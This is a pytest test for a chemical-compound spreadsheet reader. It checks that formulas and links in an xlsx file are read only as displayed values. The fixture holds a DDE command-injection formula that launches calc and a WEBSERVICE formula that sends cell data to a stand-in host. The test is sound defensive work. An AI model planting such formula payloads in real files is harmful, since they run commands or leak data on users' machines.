"""Spreadsheets with formulas and links: what they showed is read, nothing is computed, followed or run."""

from __future__ import annotations

from pathlib import Path

import pytest

from screening.compounds.files.columns import Columns
from screening.compounds.files.formats import open_files

xlsxwriter = pytest.importorskip("xlsxwriter")


def test_what_a_workbook_showed_is_read(tmp_path: Path) -> None:
    path = tmp_path / "compounds.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["SMILES", "Name", "Price", "Link"])
        sheet.write_formula(1, 0, '=CONCATENATE("CC","O")', None, "CCO")
        sheet.write_formula(1, 1, "='[prices.xlsx]Sheet1'!A1", None, "ethanol")
        sheet.write_formula(1, 2, '=WEBSERVICE("http://example.invalid/"&A2)', None, 12.5)
        sheet.write_url(1, 3, "https://example.invalid/1", string="order")
        sheet.write_formula(2, 0, "=A2", None, "")
        sheet.write_formula(2, 1, "=cmd|'/c calc'!A0", None, "#REF!")
        sheet.write_number(2, 2, 7)
        for column, text in enumerate(["CCN", "=not a formula", "+1"]):
            sheet.write_string(3, column, text)
    (file,) = open_files([path], Columns())
    found = list(file.records())
    assert [record.text for record in found] == ["CCO", "", "CCN"], "a row without a structure is not lost"
    assert [record.name for record in found][::2] == ["ethanol", "=not a formula"]
    assert dict(found[0].extra) == {"Price": "12.5", "Link": "order"}
    assert [record.number for record in found] == [1, 2, 3]
